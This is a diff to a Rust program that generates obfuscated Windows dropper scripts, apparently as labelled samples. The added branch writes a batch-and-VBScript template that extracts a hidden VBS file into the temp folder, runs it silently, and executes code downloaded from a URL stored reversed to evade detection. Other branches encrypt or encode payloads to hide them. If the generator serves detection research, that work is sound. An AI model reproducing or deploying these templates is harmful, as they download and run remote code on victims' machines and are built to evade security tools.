@@ -245,7 +245,8 @@ pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
     let script = plain(dice, truth);
     let own = script.contains("%~f0") || script.starts_with("@if");
     let mut out = String::new();
-    if !own || script.starts_with("@echo") {
+    // What counts its own lines has none in front of them.
+    if !own || script.starts_with("@echo") && !script.contains("more +") {
         out.push_str(&opening(dice));
     }
     if own { out + &script } else { out + &built(dice, &script) }
@@ -423,7 +424,7 @@ fn reads_itself(dice: &mut Dice, truth: &mut Truth) -> String {
         ),
     };
     let mark = dice.pick(&["::::", ":::", "::$"]);
-    match dice.below(3) {
+    match dice.below(4) {
         0 => {
             let (key, vector) = (bytes(dice, 32), bytes(dice, 16));
             let data = base64(&cipher::aes_cbc(&key, &vector, &gzip(payload.as_bytes())));
@@ -452,6 +453,11 @@ fn reads_itself(dice: &mut Dice, truth: &mut Truth) -> String {
             dice.name(),
             base64(&wide(&payload))
         ),
+        2 => {
+            let file = dice.name();
+            let lines = "@echo off\nmore +5 \"%~f0\" > \"%temp%\\@F@.vbs\"\nwscript //B \"%temp%\\@F@.vbs\"\ndel \"%temp%\\@F@.vbs\"\nexit /b\nSet x = CreateObject(\"MSXML2.ServerXMLHTTP\")\nx.Open \"GET\", StrReverse(\"@U@\"), False\nx.Send\nExecuteGlobal x.responseText\n";
+            put(lines, &[("F", &file), ("U", &reversed(&url))])
+        }
         _ => {
             let word = dice.name();
             let key = dice.key();
